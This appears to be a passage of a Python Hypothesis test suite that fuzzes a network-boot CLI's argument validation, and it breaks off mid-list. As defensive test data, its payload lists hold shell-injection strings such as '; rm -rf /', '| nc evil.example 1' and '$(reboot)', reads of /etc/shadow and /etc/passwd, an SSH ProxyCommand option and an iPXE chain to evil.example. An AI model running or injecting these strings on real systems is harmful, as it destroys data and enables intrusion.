"""Hostile input, end to end: for every name a user gives zboot, Hypothesis
generates at least 200 values that zboot's own rule for that name rejects,
and each one must make zboot exit 2 with kind "invalid-input" in a --json
envelope valid against zboot/schema/json-envelope.schema.json, before anything
reaches the server.

The CLI runs in-process with the server replaced by a RecordingRunner (a
config with the local server; `zboot.cli.session.LocalRunner`, and SshRunner
for --server, patched to hand one out), so "before the server" is checked,
not assumed: no command recorded, no file read, written or removed on the
server, and no process started on this machine.

Which arguments take names is read from the typer definitions themselves:
a new text argument fails `test_every_text_argument_is_classified` until it
gets a case here (or a reason why it is not a name). Each case is also run
once with a valid value, which must reach the server: that proves the exit 2
of the hostile runs comes from the hostile value and not from something else
in the command line. Every validator in zboot.names that checks input of
its own is some case's rule (`test_every_validator_in_names_has_cases`).
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import subprocess
import types
import typing
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager, redirect_stderr, redirect_stdout
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from unittest import mock

import jsonschema
import pytest
import typer
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from zboot import config as config_mod
from zboot import names
from zboot.boot.dhcp import FORMATS as DHCP_FORMATS
from zboot.boot.ipxe import MODES
from zboot.cli.app import app
from zboot.errors import InvalidInput
from zboot.ops.hostfile import CHAP_KINDS
from zboot.ops.importer import FORMATS as IMAGE_FORMATS
from zboot.schema import envelope_schema
from zboot.testing.recording import RecordingRunner

EXAMPLES = 200  # hostile values per name, counted as they run
HOSTILE = settings(
    max_examples=EXAMPLES,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)

SCHEMA = envelope_schema()
ENVELOPE = jsonschema.Draft202012Validator(SCHEMA)

# A local server (no [server] host), an engine zboot has to look up on the
# server, and everything a command needs besides the name under test (a boot
# URL for dhcp and pxelinux, a portal and target names for clone).
CONFIG = """\
[zfs]
pool = "tank"
root = "tank/zboot"
[target]
engine = "auto"
portal = "10.0.0.1:3260"
iqn_base = "iqn.2024-01.lan.example.zboot"
[boot]
url = "http://10.0.0.1/boot"
"""

GOOD_HOSTS = ("pc01", "pc02", "lab-7", "web01")
GOOD_MAC = "52:54:00:12:34:56"


# --- the server: a recorder, and nothing else --------------------------------


class Recorder(RecordingRunner):
    """A RecordingRunner that also records reads and removals (RecordingRunner
    keeps only what was written, in `files`)."""

    def __init__(self) -> None:
        super().__init__()
        self.file_ops: list[tuple[str, str]] = []

    def write_file(self, path: str, data: bytes, mode: int = 0o644) -> None:
        self.file_ops.append(("write", path))
        super().write_file(path, data, mode)

    def read_file(self, path: str) -> bytes:
        self.file_ops.append(("read", path))
        return super().read_file(path)

    def remove_file(self, path: str) -> None:
        self.file_ops.append(("remove", path))
        super().remove_file(path)

    def cut(self) -> None:
        """SshRunner's, for the fault-injection tests: nothing to cut here."""


@dataclass
class Server:
    """Every runner the CLI made during one run, and every process it tried to start."""

    runners: list[Recorder]
    spawned: list[object]

    @property
    def commands(self) -> list[tuple[str, ...]]:
        return [argv for r in self.runners for argv in r.commands]

    @property
    def file_ops(self) -> list[tuple[str, str]]:
        return [op for r in self.runners for op in r.file_ops]

    @property
    def files(self) -> dict[str, bytes]:
        return {path: data for r in self.runners for path, data in r.files.items()}


@contextmanager
def recorded_server() -> Iterator[Server]:
    server = Server([], [])

    def runner(*args: object, **kwargs: object) -> Recorder:
        server.runners.append(made := Recorder())
        return made

    class NoProcess:
        def __init__(self, *args: object, **kwargs: object) -> None:
            server.spawned.append(args)
            raise AssertionError(f"zboot started a process: {args!r}")

    with (
        mock.patch("zboot.cli.session.LocalRunner", runner),
        mock.patch("zboot.remote.ssh.SshRunner", runner),
        mock.patch("zboot.zfs.lzc.lzc_available", lambda: False),
        mock.patch.object(subprocess, "Popen", NoProcess),
    ):
        yield server


COMMAND = typer.main.get_command(app)  # built once: typer's CliRunner builds it every run


def zboot(args: Sequence[str]) -> tuple[int, str, Server]:
    """Run zboot in-process against a recorded server: exit code, stdout, server."""
    out = io.StringIO()
    with recorded_server() as server, redirect_stdout(out), redirect_stderr(io.StringIO()):
        try:
            COMMAND.main(list(args), prog_name="zboot")
        except SystemExit as end:
            code = end.code if isinstance(end.code, int) else 1
        else:
            code = 0
    return code, out.getvalue(), server


# --- hostile strings ------------------------------------------------------------

SHELL = [*";|&$`()<>{}[]*?!#~=%^\\'\"/@:., ", "\t", "\n", "\r", "\x00", "\x0b", "\x1b", "\x7f"]
# Characters that pass for ASCII ones on a screen, invisible ones, and ones
# that case-fold or normalise into ASCII.
LOOKALIKES = [
    "\u0430",
    "\u0435",
    "\u043e",
    "\u0441",
    "\u0456",
    "\u0440",  # Cyrillic a e o s i p
    "\u03bf",
    "\u03a1",
    "\u212a",
    "\u0131",
    "\u0130",
    "\u017f",  # Greek o P, Kelvin, i, I, long s
    "\uff41",
    "\uff10",
    "\u0663",
    "\u00b2",
    "\u2160",  # fullwidth a, 0; Arabic 3; sup 2; Roman 1
    "\u00a0",
    "\u2009",
    "\u3000",
    "\u200b",
    "\u200d",
    "\u2060",
    "\ufeff",  # spaces, zero-widths
    "\u202e",
    "\u2066",
    "\u0301",
    "\u0338",  # bidi override and isolate, combining marks
    "\u2010",
    "\u2011",
    "\u2212",
    "\ufe63",
    "\uff0d",  # hyphens and minus signs
    "\u2024",
    "\uff0e",
    "\u3002",
    "\u2215",
    "\u2044",
    "\uff0f",
    "\uff1a",
    "\u02d0",  # . / :
    "\U0001d41a",
    "\U0001f600",
]
PAYLOADS = [
    "",
    " ",
    "\t",
    "\n",
    "\x00",
    "-",
    "--",
    "-rf",
    "--help",
    "--yes",
    "-o",
    "..",
    ".",
    "/",
    "../",
    "../../etc/shadow",
    "/dev/sda",
    "~root",
    "*",
    "?",
    "$(reboot)",
    "`id`",
    "${IFS}",
    "$HOME",
    "; rm -rf /",
    "| nc evil.example 1",
    "&& halt",
    "|| true",
    "> /etc/passwd",
    "< /etc/shadow",
    "a\nb",
    "a\rb",
    "a\x00b",
    "'",
    '"',
    "\\",
    "%s%n",
    "{a,b}",
    "!!",
    "#",
    "\u202eexe.txt",
]
HOSTILE_CHARS = st.one_of(
    st.sampled_from(SHELL + LOOKALIKES),
    st.characters(min_codepoint=0x80),
    st.characters(max_codepoint=0x1F),
)


@st.composite
def tampered(draw: st.DrawFn, valid: st.SearchStrategy[str]) -> str:
    """A valid value with hostile characters put in or swapped in, anywhere."""
    value = draw(valid)
    for _ in range(draw(st.integers(1, 3))):
        at = draw(st.integers(0, len(value)))
        bad = draw(HOSTILE_CHARS)
        replace = at < len(value) and draw(st.booleans())
        value = value[:at] + bad + value[at + int(replace) :]
    return value


def hostile(valid: st.SearchStrategy[str], known_bad: Sequence[str] = ()) -> st.SearchStrategy[str]:
    """Candidate hostile values built around valid ones; the test keeps those
    the name's rule rejects."""
    return st.one_of(
        tampered(valid),
        st.tuples(valid, st.sampled_from(PAYLOADS)).map(lambda p: p[0] + p[1]),
        st.tuples(st.sampled_from(PAYLOADS), valid).map(lambda p: p[0] + p[1]),
        st.sampled_from(PAYLOADS),
        valid.map(lambda v: "-" + v),  # looks like an option
        valid.map(lambda v: f" {v}\n"),
        st.tuples(valid, st.integers(2, 300)).map(lambda p: p[0] * p[1]),  # too long
        st.tuples(st.sampled_from("a1-"), st.integers(254, 5000)).map(lambda p: p[0] * p[1]),
        st.sampled_from(list(known_bad) or [""]),
        st.text(max_size=80),  # anything at all
    )


# --- valid values, to build hostile ones from ------------------------------------

LOWER = "abcdefghijklmnopqrstuvwxyz"
DIGITS = "0123456789"


@st.composite
def valid_host(draw: st.DrawFn) -> str:
    edge = LOWER + LOWER.upper() + DIGITS
    inner = draw(st.text(edge + "-", max_size=12))
    return draw(st.sampled_from(edge)) + (inner + draw(st.sampled_from(edge)) if inner else "")


@st.composite
def valid_component(draw: st.DrawFn) -> str:
    rest = draw(st.text(LOWER + DIGITS + "._-", max_size=16))
    while ".." in rest:
        rest = rest.replace("..", ".")
    return draw(st.sampled_from(LOWER + DIGITS)) + rest


@st.composite
def valid_mac(draw: st.DrawFn) -> str:
    octets = draw(st.lists(st.integers(0, 255), min_size=6, max_size=6))
    octets[0] &= 0xFE
    octets[5] |= 1  # neither multicast nor all zeros
    digits = "".join(f"{o:02x}" for o in octets)
    digits = digits.upper() if draw(st.booleans()) else digits
    pairs = [digits[i : i + 2] for i in range(0, 12, 2)]
    return draw(
        st.sampled_from(
            [
                ":".join(pairs),
                "-".join(pairs),
                digits,
                ".".join(digits[i : i + 4] for i in range(0, 12, 4)),
            ]
        )
    )


@st.composite
def valid_iqn(draw: st.DrawFn) -> str:
    label = st.text(LOWER + DIGITS + "-", min_size=1, max_size=8)
    domain = ".".join(draw(st.lists(label, min_size=1, max_size=3)))
    ident = draw(st.text(LOWER + DIGITS + ".:-", max_size=12).filter(lambda s: ".." not in s))
    year, month = draw(st.integers(1990, 2099)), draw(st.integers(1, 12))
    return f"iqn.{year}-{month:02d}.{domain}" + (f":{ident}" if ident else "")


VALID_SIZE = st.tuples(
    st.integers(1, 4096), st.sampled_from(["", "K", "M", "G", "Ki", "GiB", "TB", "k"])
).map(lambda p: f"{p[0]}{p[1]}")
VALID_DATASET = st.lists(
    st.from_regex(r"[A-Za-z0-9][A-Za-z0-9_.:-]{0,8}", fullmatch=True).filter(
        lambda c: c not in (".", "..")
    ),
    min_size=1,
    max_size=3,
).map("/".join)
VALID_SERVER = st.sampled_from(
    [
        "local",
        "storage",
        "admin@storage.lan",
        "storage.lan:2222",
        "zb_admin@10.0.0.2:22",
        "[fd00::1]:22",
    ]
)
VALID_ADDRESS = st.sampled_from(["10.0.0.1", "boot.example.org", "fd00::1", "tftp-1"])
VALID_COMPRESSION = st.sampled_from(["lz4", "zstd", "zstd-3", "gzip-9", "off", "zle"])


# --- the rules, as zboot states them ---------------------------------------------


@dataclass(frozen=True)
class Rule:
    """What zboot says a value must be (check raises InvalidInput otherwise),
    and which validators of zboot.names say it."""

    check: Callable[[str], object]
    uses: frozenset[str] = frozenset()

    def rejects(self, value: str) -> bool:
        try:
            self.check(value)
        except InvalidInput:
            return True
        return False


def validator(function: Callable[[str], object]) -> Rule:
    return Rule(function, frozenset({function.__name__}))


def one_of(allowed: Sequence[str], what: str) -> Rule:
    """A word from a fixed list, as the CLI checks modes and formats."""

    def check(value: str) -> None:
        if value not in allowed:
            raise InvalidInput(f"{what} {value!r} is not one of {allowed}")

    return Rule(check)


def optional(rule: Rule) -> Rule:
    """Empty is the option's "not given" (a hosts file's empty initiator column:
    derive it from the host name; --format "": detect the format)."""
    return Rule(lambda value: rule.check(value) if value else None, rule.uses)


def read_back(rule: Rule, csv_file: bool) -> Rule:
    """The rule applied to what a hosts file hands zboot: each value stripped
    (and, a CSV being read as text, its \\r turned into \\n)."""

    def check(value: str) -> object:
        if csv_file:
            value = value.replace("\r\n", "\n").replace("\r", "\n")
        return rule.check(value.strip())

    return Rule(check, rule.uses)


def image_spec(version: str | None = None, image: str | None = None) -> Rule:
    """IMAGE[@VERSION] with the value under test as all of it, as its image
    (version given) or as its version (image given). NAME@ (an empty version)
    is refused, not read as NAME."""

    def check(value: str) -> None:
        spec = (
            f"{image}@{value}"
            if image is not None
            else value
            if version is None
            else f"{value}@{version}"
        )
        name, at, ver = spec.partition("@")
        names.image_name(name)
        if at:
            names.snapshot_name(ver)

    return Rule(check, frozenset({"image_name", "snapshot_name"}))


def server_check(value: str) -> None:
    config_mod.parse_server(value)


HOST_NAME, IMAGE_NAME, SNAPSHOT_NAME = (
    validator(names.host_name),
    validator(names.image_name),
    validator(names.snapshot_name),
)
MAC, IQN, SIZE = validator(names.mac), validator(names.iqn), validator(names.size_bytes)
DATASET, ADDRESS = validator(names.dataset_name), validator(names.address)
COMPRESSION, MESSAGE = validator(names.compression), validator(names.message)
URL, AGE = validator(names.url), validator(names.age_seconds)
MODE, DHCP_FORMAT = one_of(MODES, "mode"), one_of(DHCP_FORMATS, "DHCP format")
CHAP, IMAGE_FORMAT = one_of(CHAP_KINDS, "chap kind"), one_of(IMAGE_FORMATS, "image format")
SERVER = Rule(server_check)
SWITCH = one_of(("on", "off"), "ephemeral/keep switch")


# --- the cases: every name, in every place the CLI takes it ----------------------


@dataclass(frozen=True)
class Place:
    """Where a run writes its files, and the valid hosts around a hostile one
    in a command that takes several."""

    config: Path
    work: Path
    before: tuple[str, ...] = ()
    after: tuple[str, ...] = ()

    def cli(self, *args: str) -> list[str]:
        return ["--config", str(self.config), "--json", *args]

    def hosts(self, value: str) -> list[str]:
        return [*self.before, value, *self.after]


@dataclass(frozen=True)
class Case:
    id: str
    feeds: tuple[str, str]  # (command, parameter) in the typer definitions
    rule: Rule
    valid: st.SearchStrategy[str]
    good: str  # a valid value: with it, the command line reaches the server
    argv: Callable[[str, Place], list[str]]
    known_bad: tuple[str, ...] = ()
    values: st.SearchStrategy[str] | None = None  # instead of hostile(valid)

    def strategy(self) -> st.SearchStrategy[str]:
        return self.values if self.values is not None else hostile(self.valid, self.known_bad)


def with_boot_lan(p: Place) -> Place:
    """p with a config that names the boot LAN's interface ([serve]), which
    `power on` needs before it reads the server's state."""
    config = p.work / "zboot-lan.toml"
    config.write_text(CONFIG + '[serve]\ninterface = "eth1"\n')
    return dataclasses.replace(p, config=config)


def names_csv(p: Place, value: str) -> str:
    """A hosts file of one column (host) with the value among valid hosts."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\n")
    writer.writerows([["host"], *([h] for h in p.hosts(value))])
    path = p.work / "names.csv"
    path.write_text(out.getvalue(), encoding="utf-8", errors="surrogatepass")
    return str(path)


def switch_argv(flag: str, host: str | None) -> Callable[[str, Place], list[str]]:
    """`zboot ephemeral|keep HOST... on|off` with the value as the hosts
    (host None) or as the switch (for host)."""

    def argv(value: str, p: Place) -> list[str]:
        if host is None:
            return p.cli(flag, "--", *p.hosts(value), "on")
        return p.cli(flag, "--", *p.hosts(host), value)

    return argv


def hosts_csv(column: str) -> Callable[[str, Place], list[str]]:
    def argv(value: str, p: Place) -> list[str]:
        row = {"host": "pc01", "mac": GOOD_MAC, "initiator": "", "chap": ""} | {column: value}
        out = io.StringIO()
        writer = csv.DictWriter(
            out, fieldnames=list(row), quoting=csv.QUOTE_ALL, lineterminator="\n"
        )
        writer.writeheader()
        writer.writerow(row)
        path = p.work / "hosts.csv"
        # a lone surrogate becomes bytes that are not UTF-8: hostile too
        path.write_text(out.getvalue(), encoding="utf-8", errors="surrogatepass")
        return p.cli("clone", "--hosts", str(path), "golden")

    return argv


def toml_string(value: str) -> str:
    """A TOML basic string holding value exactly (control characters escaped)."""
    return (
        '"'
        + "".join(
            f"\\u{ord(c):04x}" if ord(c) < 0x20 or ord(c) == 0x7F or c in '"\\' else c
            for c in value
        )
        + '"'
    )


def hosts_toml(column: str) -> Callable[[str, Place], list[str]]:
    def argv(value: str, p: Place) -> list[str]:
        row = {"host": "pc01", "mac": GOOD_MAC} | {column: value}
        path = p.work / "hosts.toml"
        path.write_text(
            "[[host]]\n" + "".join(f"{k} = {toml_string(v)}\n" for k, v in row.items()),
            encoding="utf-8",
            errors="surrogatepass",  # a lone surrogate: bytes that are not UTF-8, hostile too
        )
        return p.cli("clone", "--hosts", str(path), "golden")

    return argv


def config_with(key: str) -> Callable[[str, Place], list[str]]:
    def argv(value: str, p: Place) -> list[str]:
        zfs = {"pool": "tank", "root": "tank/zboot", key: value}
        if key == "pool":
            zfs["root"] = value + "/zboot"
        path = p.work / "config.toml"
        path.write_text(
            "[zfs]\n" + "".join(f"{k} = {toml_string(v)}\n" for k, v in zfs.items()),
            encoding="utf-8",
            errors="surrogatepass",  # as hosts_toml
        )
        return ["--config", str(path), "--json", "list"]

    return argv


def disk(p: Place) -> str:
    path = p.work / "disk.raw"
    if not path.exists():
        path.write_bytes(bytes(1 << 20))
    return str(path)


HOST_BAD = ("-pc", "pc-", "pc.lan", "pc_01", "a" * 64, "\u03a1C01", "pc01\n")
COMPONENT_BAD = (
    "A",
    "Debian",
    ".hidden",
    "-x",
    "_x",
    "a..b",
    "a" * 65,
    "x@y",
    "x/y",
    "x#y",
    "x%y",
    "\u212aey",
)
MAC_BAD = (
    "01:00:5e:00:00:01",
    "ff:ff:ff:ff:ff:ff",
    "00:00:00:00:00:00",
    "52:54-00:12:34:56",
    "52:54:00:12:34",
    "52:54:00:12:34:56:78",
    "52:54:00:12:34:5g",
    "5254.00123456",
    "52 54 00 12 34 56",
    "52:54:00:12:34:56\n",
    "\uff15\uff12:54:00:12:34:56",
)
IQN_BAD = (
    "iqn.2003-13.org.example",
    "iqn.0000-01.org.example",
    "eui.0123456789abcdef",
    "naa.5000",
    "iqn.2003-01.org..example",
    "iqn.2003-01",
    "iqn.2003-01.org.example:a b",
    "iqn.2003-01." + "a" * 230,
    "iqn.2003-01.org.\u212aexample",
    "iqn.2003-1.org.x",
)
SIZE_BAD = (
    "0",
    "0G",
    "-1G",
    "1e9",
    "1.5",
    "10 G",
    "10GG",
    "9000P",
    "1_000",
    "0x10",
    "inf",
    "NaN",
    "\u0661G",
    "1\u212a",
    "+1G",
    "1G\n",
)
DATASET_BAD = (
    "/tank",
    "tank/",
    "tank//zboot",
    "tank/../etc",
    "tank/./x",
    "tank@snap",
    "tank#bm",
    "-tank",
    "a" * 256,
    "tank/zb oot",
)
SERVER_BAD = (
    "a b",
    "host;id",
    "user@",
    "@host",
    "host:",
    "host:99999",
    "host:0",
    "-x",
    "-oProxyCommand=x",
    "host\n",
    "[::1",
    "Root@host",
    "host:22\n",
    ".host",
)
ADDRESS_BAD = (
    "-x",
    "10.0.0.1; evil",
    "a b",
    "10.0.0.1\n",
    ".x",
    'x"',
    "x}",
    "10.0.0.1#",
    "http://10.0.0.1/",
)
COMPRESSION_BAD = ("LZ4", "lz4 ", "-lz4", "lz4,gzip", "on\n", "zstd=3", "a" * 33)
URL_BAD = (
    "http://10.0.0.1/winpe\nchain http://evil.example/x",
    "http://10.0.0.1/win pe",
    "http://${next-server}/winpe",
    "http://10.0.0.1/'x'",
    'http://10.0.0.1/"',
    "http://",
    "ftp://10.0.0.1/winpe",
    "file:///etc/passwd",
    "HTTP://10.0.0.1/winpe",
    "10.0.0.1/winpe",
    "-http://10.0.0.1/",
    "http://10.0.0.1/winpe;reboot",
    "http://10.0.0.1/\u0430",
    "http://10.0.0.1/" + "a" * 2000,
    "http://10.0.0.1/winpe\r",
    "http://x/#frag",
    "http://x/?a=b",
)
WORD_BAD = (
    "Normal",
    "normal ",
    "maintenance\n",
    "install;reboot",
    "ISC",
    "json",
    "yes",
    "One-Way",
    "true",
    "1",
    "raw ",
    "QCOW2",
    "iso",
)

HOST = valid_host()
COMPONENT = valid_component()
CONTROL = st.one_of(st.characters(max_codepoint=0x1F), st.just("\x7f"))
MESSAGES = st.one_of(  # free text but for control characters and the length
    st.tuples(st.text(max_size=60), CONTROL, st.text(max_size=60)).map("".join),
    st.tuples(
        st.text(max_size=60), st.text(CONTROL, min_size=1, max_size=5), st.text(max_size=60)
    ).map("".join),
    st.integers(1001, 5000).map(lambda n: "m" * n),
    st.tuples(st.text(max_size=60), st.integers(1001, 3000)).map(lambda p: p[0] + "m" * p[1]),
)
IQN_GOOD = "iqn.2003-01.org.example:pc01"
URL_CHARS = LOWER + LOWER.upper() + DIGITS + "._~:/%@+=,-"
VALID_URL = st.tuples(
    st.sampled_from(["http", "https", "tftp"]),
    st.sampled_from(["10.0.0.1", "boot.example.org", "[fd00::1]:8080", "10.0.0.1:69"]),
    st.text(URL_CHARS, max_size=24),
).map(lambda p: f"{p[0]}://{p[1]}/{p[2]}")
WINPE_GOOD = "http://10.0.0.1/winpe"


def clone(*args: str) -> Callable[[str, Place], list[str]]:
    """clone with args, the value going where "{}" is."""
    return lambda v, p: p.cli("clone", *(a.replace("{}", v) for a in args))


CASES: list[Case] = [
    # host names
    Case(
        "clone HOST",
        ("clone", "host"),
        HOST_NAME,
        HOST,
        "pc01",
        clone("--mac", GOOD_MAC, "--", "golden", "{}"),
        HOST_BAD,
    ),
    Case(
        "show HOST",
        ("show", "host"),
        HOST_NAME,
        HOST,
        "pc01",
        lambda v, p: p.cli("show", "--", v),
        HOST_BAD,
    ),
    Case(
        "snapshot HOST...",
        ("snapshot", "hosts"),
        HOST_NAME,
        HOST,
        "pc01",
        lambda v, p: p.cli("snapshot", "--", *p.hosts(v)),
        HOST_BAD,
    ),
    Case(
        "rollback HOST...",
        ("rollback", "hosts"),
        HOST_NAME,
        HOST,
        "pc01",
        lambda v, p: p.cli("rollback", "--", *p.hosts(v)),
        HOST_BAD,
    ),
    Case(
        "prune HOST...",
        ("prune", "hosts"),
        HOST_NAME,
        HOST,
        "pc01",
        lambda v, p: p.cli("prune", "--yes", "--", *p.hosts(v)),
        HOST_BAD,
    ),
    Case(
        "commit HOST",
        ("commit", "host"),
        HOST_NAME,
        HOST,
        "pc01",
        lambda v, p: p.cli("commit", "--message=updates", "--", v),
        HOST_BAD,
    ),
    Case(
        "rebase HOST...",
        ("rebase", "hosts"),
        HOST_NAME,
        HOST,
        "pc01",
        lambda v, p: p.cli("rebase", "--to=golden", "--", *p.hosts(v)),
        HOST_BAD,
    ),
    Case(
        "rebase --hosts FILE",
        ("rebase", "hosts_file"),
        read_back(HOST_NAME, True),
        HOST,
        "pc01",
        lambda v, p: p.cli("rebase", "--to=golden", "--hosts", names_csv(p, v)),
        HOST_BAD,
    ),
    Case(
        "data rebase HOST...",
        ("data rebase", "hosts"),
        HOST_NAME,
        HOST,
        "pc01",
        lambda v, p: p.cli("data", "rebase", "--to=golden", "--", *p.hosts(v)),
        HOST_BAD,
    ),
    Case(
        "data rebase --hosts FILE",
        ("data rebase", "hosts_file"),
        read_back(HOST_NAME, True),
        HOST,
        "pc01",
        lambda v, p: p.cli("data", "rebase", "--to=golden", "--hosts", names_csv(p, v)),
        HOST_BAD,
    ),
    Case(
        "data reset HOST...",
        ("data reset", "hosts"),
        HOST_NAME,
        HOST,
        "pc01",
        lambda v, p: p.cli("data", "reset", "--", *p.hosts(v)),
        HOST_BAD,
    ),
    Case(
        "data reset --hosts FILE",
        ("data reset", "hosts_file"),
        read_back(HOST_NAME, True),
        HOST,
        "pc01",
        lambda v, p: p.cli("data", "reset", "--hosts", names_csv(p, v)),
        HOST_BAD,
    ),
    Case(
        "destroy HOST...",
        ("destroy", "hosts"),
        HOST_NAME,
        HOST,
        "pc01",
        lambda v, p: p.cli("destroy", "--yes", "--", *p.hosts(v)),
        HOST_BAD,
    ),
    Case(
        "mode HOST...",
        ("mode", "hosts"),
        HOST_NAME,
        HOST,
        "pc01",
        lambda v, p: p.cli("mode", "--", *p.hosts(v), "normal"),
        HOST_BAD,
    ),
    Case(
        "power on HOST...",
        ("power on", "hosts"),
        HOST_NAME,
        HOST,
        "pc01",
        lambda v, p: with_boot_lan(p).cli("power", "on", "--", *p.hosts(v)),
        HOST_BAD,
    ),
    Case(
        "export show HOST",
        ("export show", "host"),
        HOST_NAME,
        HOST,
        "pc01",
        lambda v, p: p.cli("export", "show", "--", v),
        HOST_BAD,
    ),
    Case(
        "pxelinux HOST",
        ("pxelinux", "host"),
        HOST_NAME,
        HOST,
        "pc01",
        lambda v, p: p.cli("pxelinux", "--", v),
        HOST_BAD,
    ),
    Case(
        "dhcp HOST...",
        ("dhcp", "hosts"),
        HOST_NAME,
        HOST,
        "pc01",
        lambda v, p: p.cli("dhcp", "--", *p.hosts(v)),
        HOST_BAD,
    ),
    Case(
        "clone --hosts CSV: host",
        ("clone", "hosts_file"),
        read_back(HOST_NAME, True),
        HOST,
        "pc01",
        hosts_csv("host"),
        HOST_BAD,
    ),
    Case(
        "clone --hosts TOML: host",
        ("clone", "hosts_file"),
        read_back(HOST_NAME, False),
        HOST,
        "pc01",
        hosts_toml("host"),
        HOST_BAD,
    ),
    # image names
    Case(
        "clone IMAGE",
        ("clone", "image"),
        image_spec(),
        COMPONENT,
        "golden",
        clone("--mac", GOOD_MAC, "--", "{}", "pc01"),
        COMPONENT_BAD,
    ),
    Case(
        "clone IMAGE@VERSION: image",
        ("clone", "image"),
        image_spec(version="v1"),
        COMPONENT,
        "golden",
        clone("--mac", GOOD_MAC, "--", "{}@v1", "pc01"),
        COMPONENT_BAD,
    ),
    Case(
        "clone --data-image IMAGE",
        ("clone", "data_image"),
        image_spec(),
        COMPONENT,
        "games",
        clone("--mac", GOOD_MAC, "--data-image={}", "--", "golden", "pc01"),
        COMPONENT_BAD,
    ),
    Case(
        "rebase --to IMAGE",
        ("rebase", "to"),
        image_spec(),
        COMPONENT,
        "golden",
        lambda v, p: p.cli("rebase", f"--to={v}", "--", "pc09"),
        COMPONENT_BAD,
    ),
    Case(
        "commit --image NEW-IMAGE",
        ("commit", "image"),
        IMAGE_NAME,
        COMPONENT,
        "golden2",
        lambda v, p: p.cli("commit", "--message=updates", f"--image={v}", "--", "pc09"),
        COMPONENT_BAD,
    ),
    Case(
        "data rebase --to IMAGE",
        ("data rebase", "to"),
        image_spec(),
        COMPONENT,
        "golden",
        lambda v, p: p.cli("data", "rebase", f"--to={v}", "--", "pc09"),
        COMPONENT_BAD,
    ),
    Case(
        "image prune NAME",
        ("image prune", "name"),
        IMAGE_NAME,
        COMPONENT,
        "golden",
        lambda v, p: p.cli("image", "prune", "--keep=2", "--yes", "--", v),
        COMPONENT_BAD,
    ),
    Case(
        "image create NAME",
        ("image create", "name"),
        IMAGE_NAME,
        COMPONENT,
        "golden",
        lambda v, p: p.cli("image", "create", "--size", "1G", "--", v),
        COMPONENT_BAD,
    ),
    Case(
        "image import NAME",
        ("image import", "name"),
        IMAGE_NAME,
        COMPONENT,
        "golden",
        lambda v, p: p.cli("image", "import", "--format", "raw", "--", v, disk(p)),
        COMPONENT_BAD,
    ),
    Case(
        "image snapshot NAME",
        ("image snapshot", "name"),
        IMAGE_NAME,
        COMPONENT,
        "golden",
        lambda v, p: p.cli("image", "snapshot", "--", v),
        COMPONENT_BAD,
    ),
    Case(
        "image show NAME",
        ("image show", "name"),
        IMAGE_NAME,
        COMPONENT,
        "golden",
        lambda v, p: p.cli("image", "show", "--", v),
        COMPONENT_BAD,
    ),
    Case(
        "image destroy NAME",
        ("image destroy", "spec"),
        image_spec(),
        COMPONENT,
        "golden",
        lambda v, p: p.cli("image", "destroy", "--yes", "--", v),
        COMPONENT_BAD,
    ),
    Case(
        "image destroy NAME@VERSION: name",
        ("image destroy", "spec"),
        image_spec(version="v1"),
        COMPONENT,
        "golden",
        lambda v, p: p.cli("image", "destroy", "--yes", "--", f"{v}@v1"),
        COMPONENT_BAD,
    ),
    # image versions and restore points
    Case(
        "clone IMAGE@VERSION: version",
        ("clone", "image"),
        image_spec(image="golden"),
        COMPONENT,
        "v1",
        clone("--mac", GOOD_MAC, "--", "golden@{}", "pc01"),
        ("", *COMPONENT_BAD),
    ),
    Case(
        "rebase --to IMAGE@VERSION: version",
        ("rebase", "to"),
        image_spec(image="golden"),
        COMPONENT,
        "v1",
        lambda v, p: p.cli("rebase", f"--to=golden@{v}", "--", "pc09"),
        ("", *COMPONENT_BAD),
    ),
    Case(
        "commit --from",
        ("commit", "from_"),
        SNAPSHOT_NAME,
        COMPONENT,
        "before-update",
        lambda v, p: p.cli("commit", "--message=updates", f"--from={v}", "--", "pc09"),
        COMPONENT_BAD,
    ),
    Case(
        "prune --older-than",
        ("prune", "older_than"),
        AGE,
        st.builds(lambda n, u: f"{n}{u}", st.integers(1, 999), st.sampled_from("mhdw")),
        "30d",
        lambda v, p: p.cli("prune", "--yes", f"--older-than={v}"),
        ("0d", "30", "d", "30 d", "-1d", "30D", "1y", "30d\n", "\u0663d", "1.5h"),
    ),
    Case(
        "image snapshot NAME VERSION",
        ("image snapshot", "version"),
        SNAPSHOT_NAME,
        COMPONENT,
        "v2",
        lambda v, p: p.cli("image", "snapshot", "--", "golden", v),
        COMPONENT_BAD,
    ),
    Case(
        "image destroy NAME@VERSION: version",
        ("image destroy", "spec"),
        image_spec(image="golden"),
        COMPONENT,
        "v1",
        lambda v, p: p.cli("image", "destroy", "--yes", "--", f"golden@{v}"),
        COMPONENT_BAD,
    ),
    Case(
        "snapshot --name",
        ("snapshot", "name"),
        SNAPSHOT_NAME,
        COMPONENT,
        "before-update",
        lambda v, p: p.cli("snapshot", f"--name={v}", "--", *p.hosts("pc09")),
        COMPONENT_BAD,
    ),
    Case(
        "rollback --to",
        ("rollback", "to"),
        SNAPSHOT_NAME,
        COMPONENT,
        "before-update",
        lambda v, p: p.cli("rollback", f"--to={v}", "--", *p.hosts("pc09")),
        COMPONENT_BAD,
    ),
    # MAC addresses
    Case(
        "clone --mac",
        ("clone", "mac"),
        MAC,
        valid_mac(),
        GOOD_MAC,
        clone("--mac={}", "--", "golden", "pc01"),
        MAC_BAD,
    ),
    Case(
        "clone --hosts CSV: mac",
        ("clone", "hosts_file"),
        read_back(MAC, True),
        valid_mac(),
        GOOD_MAC,
        hosts_csv("mac"),
        MAC_BAD,
    ),
    Case(
        "clone --hosts TOML: mac",
        ("clone", "hosts_file"),
        read_back(MAC, False),
        valid_mac(),
        GOOD_MAC,
        hosts_toml("mac"),
        MAC_BAD,
    ),
    # initiator names (given empty on the command line is refused; an empty
    # column in a hosts file means "derive it from the host name")
    Case(
        "clone --initiator",
        ("clone", "initiator"),
        IQN,
        valid_iqn(),
        IQN_GOOD,
        clone("--mac", GOOD_MAC, "--initiator={}", "--", "golden", "pc01"),
        ("", *IQN_BAD),
    ),
    Case(
        "clone --hosts CSV: initiator",
        ("clone", "hosts_file"),
        read_back(optional(IQN), True),
        valid_iqn(),
        IQN_GOOD,
        hosts_csv("initiator"),
        IQN_BAD,
    ),
    Case(
